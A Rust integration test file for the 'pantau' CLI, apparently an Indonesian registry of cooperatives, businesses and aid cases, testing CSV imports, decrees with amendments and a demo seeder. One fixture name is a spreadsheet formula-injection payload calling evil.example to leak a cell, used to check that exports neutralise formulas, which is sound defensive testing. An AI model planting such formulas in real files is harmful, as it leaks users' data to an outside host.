//! The registry through the real binary, on SQLite and PostgreSQL: a CSV
//! import with bad rows, programs and a decree of many cases with an
//! amendment, and the demo (every state of every workflow, repeatable).

#![allow(clippy::unwrap_used, clippy::expect_used)]

#[path = "support/db.rs"]
mod db;
mod support;

use std::process::{Command, Output, Stdio};

use sea_orm::{ConnectionTrait, Statement};
use support::repo;

fn cli(url: &str) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_pantau"));
    c.current_dir(repo())
        .env("PANTAU_DATABASE_URL", url)
        .stdin(Stdio::null());
    c
}

fn run(url: &str, args: &[&str]) -> Output {
    cli(url).args(args).output().unwrap()
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

async fn query(url: &str, sql: &str) -> Vec<(String, String)> {
    let db = sea_orm::Database::connect(url).await.unwrap();
    let rows = db
        .query_all_raw(Statement::from_string(
            db.get_database_backend(),
            sql.to_string(),
        ))
        .await
        .unwrap();
    rows.iter()
        .map(|r| {
            (
                r.try_get_by_index::<String>(0).unwrap(),
                r.try_get_by_index::<String>(1).unwrap(),
            )
        })
        .collect()
}

const CSV: &str = "\
kind,region_code,name,nik_koperasi,legal_entity_number,coop_kind,members,active,last_rat_year,nib,owner_nik,scale,nik,market_location,lat,lon
cooperative,18.71,KSP Mitra Usaha Mandiri,1871020030000123,123/BH/X.3/2015,KSP,214,ya,2025,,,,,,-5.4292,105.2619
cooperative,18.01,KUD Sinar Tani,1801020030000456,45/BH/X.3/1998,KUD,530,ya,2024,,,,,,,
umkm,18.71,Keripik Pisang Bu Sari,,,,,,,9120001234567,1871014508900001,mikro,,,,
pkl,13.72,Budi Santoso,,,,,,,,,,1372011203850002,Pasar Raya Solok,,
umkm,18.71,Toko Tanpa NIB,,,,,,,12345,1871014508900001,besar,,,,
cooperative,13.01,KSP Salah Wilayah,1871020030000999,,KSP,10,ya,,,,,,,,
entrepreneur,18.72,Rina Wati,,,,,,,,,,1872016506950003,,,
";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_import_keeps_good_rows_and_names_each_bad_one() {
    for t in db::test_databases().await {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("koperasi.csv");
        std::fs::write(&file, CSV).unwrap();
        let out = run(&t.url, &["import", "beneficiaries", file.to_str().unwrap()]);
        assert_eq!(out.status.code(), Some(1), "{}", text(&out));
        assert!(
            text(&out).contains("7 rows read: 5 new, 0 already registered, 2 refused"),
            "{}",
            text(&out)
        );
        let refused = std::fs::read_to_string(dir.path().join("koperasi.refused.csv")).unwrap();
        let where_why: Vec<String> = refused
            .lines()
            .skip(1)
            .map(|l| l.split(',').take(2).collect::<Vec<_>>().join(","))
            .collect();
        assert_eq!(
            where_why,
            ["6,nib; scale", "7,nik_koperasi; legal_entity_number"],
            "{}: {refused}",
            t.name
        );
        assert!(refused.contains("NIB harus 13 digit angka"), "{refused}");
        let again = run(&t.url, &["import", "beneficiaries", file.to_str().unwrap()]);
        assert!(
            text(&again).contains("7 rows read: 0 new, 5 already registered, 2 refused"),
            "{}: {}",
            t.name,
            text(&again)
        );
    }
}

/// As Excel in an Indonesian locale saves it: `;`, Windows-1252, CRLF,
/// decimal commas, `18.1` for `18.10`; then a short row, a long row, and a
/// name that is a formula with its owner's NIK in scientific notation.
const EXCEL_ID: &[u8] = b"kind;region_code;name;nib;owner_nik;scale;lat;lon\r\n\
umkm;18.71;Kopi Ren\xe9 M\xfcller;9120001234511;1871014508900001;mikro;-5,4292;105,2619\r\n\
umkm;18.1;Toko Pringsewu;9120001234512;1871014508900001;kecil;;\r\n\
umkm;18.71;Warung Pendek;9120001234513\r\n\
umkm;18.71;Warung Panjang;9120001234514;1871014508900001;mikro;;;lebih\r\n\
umkm;18.71;\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"klik\"\")\";9120001234515;1,87101E+15;mikro;;\r\n";

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"klik\")";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_import_reads_an_excel_file_and_its_refused_rows_mended() {
    for t in db::test_databases().await {
        let name = t.name;
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("umkm.csv");
        std::fs::write(&file, EXCEL_ID).unwrap();
        let out = run(&t.url, &["import", "beneficiaries", file.to_str().unwrap()]);
        let said = text(&out);
        assert_eq!(out.status.code(), Some(1), "{name}: {said}");
        assert!(
            said.contains("5 rows read: 2 new, 0 already registered, 3 refused"),
            "{name}: {said}"
        );
        for line in [
            "umkm.csv: line 4, column owner_nik: baris ini hanya 4 kolom, judulnya 8",
            "umkm.csv: line 5, column #9: baris ini 9 kolom, judulnya hanya 8",
            "umkm.csv: line 6, column owner_nik: `1,87101E+15`: Excel mengubah angka panjang",
        ] {
            assert!(said.contains(line), "{name}: {line} in {said}");
        }
        let kept = query(
            &t.url,
            "SELECT name, region_code FROM beneficiaries WHERE nib IN ('9120001234511', '9120001234512') ORDER BY nib",
        )
        .await;
        assert_eq!(
            kept,
            [
                ("Kopi René Müller".to_string(), "18.71".to_string()),
                ("Toko Pringsewu".to_string(), "18.10".to_string())
            ],
            "{name}"
        );

        // The refused rows, for a spreadsheet: each once, the formula made text.
        let refused_path = dir.path().join("umkm.refused.csv");
        let refused = std::fs::read_to_string(&refused_path).unwrap();
        assert!(
            refused.starts_with("\u{feff}line,column,reason,kind,region_code,name,"),
            "{refused}"
        );
        assert_eq!(refused.lines().count(), 4, "{refused}");
        assert!(refused.contains(",\"'=HYPERLINK("), "{refused}");

        // Mended (the NIK typed again) and imported as it is: the formula-like
        // name is the name it was; the short and the long row are refused again.
        std::fs::write(
            &refused_path,
            refused.replace("1,87101E+15", "1871014508900001"),
        )
        .unwrap();
        let again = run(
            &t.url,
            &["import", "beneficiaries", refused_path.to_str().unwrap()],
        );
        assert!(
            text(&again).contains("3 rows read: 1 new, 0 already registered, 2 refused"),
            "{name}: {}",
            text(&again)
        );
        let mended = query(
            &t.url,
            "SELECT name, owner_nik FROM beneficiaries WHERE nib = '9120001234515'",
        )
        .await;
        assert_eq!(
            mended,
            [(FORMULA.to_string(), "1871014508900001".to_string())],
            "{name}"
        );

        // A file in no encoding Excel writes: one line, nothing kept.
        let garbled = dir.path().join("garbled.csv");
        std::fs::write(
            &garbled,
            b"kind,region_code,name\numkm,18.71,\x81\x8d\xe9\n",
        )
        .unwrap();
        let out = run(
            &t.url,
            &["import", "beneficiaries", garbled.to_str().unwrap()],
        );
        let said = String::from_utf8_lossy(&out.stderr).to_string();
        assert_eq!(out.status.code(), Some(1), "{name}: {said}");
        assert_eq!(said.lines().count(), 1, "{name}: {said}");
        assert!(
            said.contains("garbled.csv: ") && said.contains("CSV UTF-8"),
            "{said}"
        );
        assert!(!dir.path().join("garbled.refused.csv").exists());
    }
}

fn create_verified(url: &str, program: &str) -> String {
    let out = run(
        url,
        &[
            "case",
            "create",
            "bansos",
            "--program-id",
            program,
            "--region",
            "18.71",
            "--as",
            "manager_regency",
            "--user",
            "rina",
        ],
    );
    assert!(out.status.success(), "{}", text(&out));
    let id = String::from_utf8_lossy(&out.stdout)
        .lines()
        .find_map(|l| l.strip_prefix("case: "))
        .unwrap()
        .to_string();
    for args in [
        vec![
            "submit",
            "amount_requested=Rp 100.000.000",
            "proposal_doc=u.pdf",
            "in_craft_centre=ya",
            "--as",
            "manager_regency",
            "--user",
            "rina",
        ],
        vec!["start_verification", "--as", "verifier", "--user", "agus"],
        vec![
            "verify",
            "legal_entity_valid=ya",
            "rat_held_last_year=ya",
            "--as",
            "verifier",
            "--user",
            "agus",
        ],
    ] {
        let mut full = vec!["case", "apply", id.as_str()];
        full.extend(args);
        let out = run(url, &full);
        assert!(out.status.success(), "{}", text(&out));
    }
    id
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_decree_approves_what_it_can_and_says_why_for_the_rest() {
    for t in db::test_databases().await {
        let out = run(
            &t.url,
            &[
                "program",
                "add",
                "bansos-kud-2026",
                "--workflow",
                "bansos",
                "--name",
                "Bansos KUD 2026",
                "--year",
                "2026",
                "--ceiling",
                "Rp 1.000.000.000",
                "--province",
                "18",
                "--allocation",
                "18.71=Rp 250.000.000",
            ],
        );
        assert!(out.status.success(), "{}", text(&out));
        let ids: Vec<String> = (0..3)
            .map(|_| create_verified(&t.url, "bansos-kud-2026"))
            .collect();
        let dir = tempfile::tempdir().unwrap();
        let list = dir.path().join("sk.csv");
        std::fs::write(&list, format!("case_id,change,amount,tranches\n{},approve,Rp 100.000.000,100\n{},approve,Rp 100.000.000,100\n{},approve,Rp 100.000.000,100\n", ids[0], ids[1], ids[2])).unwrap();
        let sk = [
            "--date",
            "2026-03-02",
            "--signer",
            "Ir. Hendra Gunawan",
            "--position",
            "Kepala Dinas",
            "--program",
            "bansos-kud-2026",
            "--user",
            "agus",
        ];
        let mut args = vec![
            "decree",
            "apply",
            list.to_str().unwrap(),
            "--number",
            "800/45/2026",
        ];
        args.extend(sk);

        // A list with bad rows is named row by row, and nothing of it is applied.
        let bad = dir.path().join("sk-salah.csv");
        std::fs::write(
            &bad,
            format!(
                "kasus,jumlah,tahap\n{},Rp 100.000.000,100\n{},Rp 100.000.000,60/30\n,Rp 5,\n",
                ids[0], ids[1]
            ),
        )
        .unwrap();
        let mut bad_args = args.clone();
        bad_args[2] = bad.to_str().unwrap();
        let out = run(&t.url, &bad_args);
        assert_eq!(out.status.code(), Some(1), "{}", text(&out));
        let said = text(&out);
        assert!(said.contains("2 bad row(s); nothing was applied"), "{said}");
        assert!(
            said.contains("line 3, column tranches: jumlahnya 90 %"),
            "{said}"
        );
        assert!(
            said.contains("line 4, column case_id: wajib diisi"),
            "{said}"
        );
        let nothing = run(&t.url, &["decree", "show", "800/45/2026"]);
        assert!(!nothing.status.success(), "{}", text(&nothing));

        let out = run(&t.url, &args);
        assert_eq!(out.status.code(), Some(1), "{}", text(&out));
        assert!(
            text(&out).contains("2 case(s) taken, 0 already taken by an earlier run, 1 refused"),
            "{}",
            text(&out)
        );
        assert!(text(&out).contains(&format!("REFUSED {}: jumlah disetujui Rp 100.000.000 melebihi sisa alokasi wilayah Rp 50.000.000", ids[2])), "{}", text(&out));

        // SK perubahan: lower the first to 50 M; the third now fits.
        std::fs::write(
            &list,
            format!(
                "case_id,change,amount\n{},amount,Rp 50.000.000\n{},approve,Rp 100.000.000\n",
                ids[0], ids[2]
            ),
        )
        .unwrap();
        let mut args = vec![
            "decree",
            "apply",
            list.to_str().unwrap(),
            "--number",
            "800/45a/2026",
            "--amends",
            "800/45/2026",
        ];
        args.extend(sk);
        let out = run(&t.url, &args);
        assert!(out.status.success(), "{}: {}", t.name, text(&out));
        let shown = text(&run(&t.url, &["decree", "show", "800/45a/2026"]));
        assert!(shown.contains("mengubah SK 800/45/2026"), "{shown}");
        let original = text(&run(&t.url, &["decree", "show", "800/45/2026"]));
        assert!(
            original
                .lines()
                .filter(|l| l.contains(" approved "))
                .count()
                == 2
                && original.contains("refused"),
            "{original}"
        );
        let program = text(&run(&t.url, &["program", "show", "bansos-kud-2026"]));
        assert!(
            program.lines().any(|l| l.starts_with("18.71")
                && l.contains("Rp 250.000.000")
                && l.contains("Rp 0")),
            "{program}"
        );
        let verify = run(&t.url, &["audit", "verify"]);
        assert!(verify.status.success(), "{}: {}", t.name, text(&verify));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_demo_fills_every_state_of_every_workflow_and_repeats_itself() {
    let mut heads = Vec::new();
    for t in db::test_databases().await {
        let out = run(
            &t.url,
            &[
                "demo",
                "--scale",
                "0.01",
                "--as-of",
                "2026-11-23",
                "--cases-per-state",
                "1",
            ],
        );
        assert!(out.status.success(), "{}: {}", t.name, text(&out));
        let summary = text(&out);
        assert!(
            summary.contains("cases: 87 in all 87 states of 8 workflows"),
            "{summary}"
        );
        assert!(
            summary.contains("Rp 724.000.000")
                && summary.contains("Rp 3.000.000.000")
                && summary.contains("Rp 1.200.000.000"),
            "{summary}"
        );
        let states = query(
            &t.url,
            "SELECT workflow, state FROM cases GROUP BY workflow, state ORDER BY workflow, state",
        )
        .await;
        assert_eq!(states.len(), 87, "{}: {states:?}", t.name);
        let visits = query(&t.url, "SELECT CAST(COUNT(*) AS TEXT), CAST(SUM(CASE WHEN done_at IS NULL AND due_at < '2026-11-23' THEN 1 ELSE 0 END) AS TEXT) FROM visits").await;
        assert!(
            visits[0].1 != "0",
            "{}: no overdue visit: {visits:?}",
            t.name
        );
        assert!(
            run(&t.url, &["audit", "verify"]).status.success(),
            "{}",
            t.name
        );
        let again = run(&t.url, &["demo", "--scale", "0.01"]);
        assert_eq!(
            again.status.code(),
            Some(2),
            "a second demo into the same database is refused: {}",
            text(&again)
        );
        heads.push(query(&t.url, "SELECT id, head_hash FROM cases ORDER BY id").await);
    }
    if heads.len() == 2 {
        assert_eq!(
            heads[0], heads[1],
            "the same seed and date give the same cases and events on both databases"
        );
    }
}
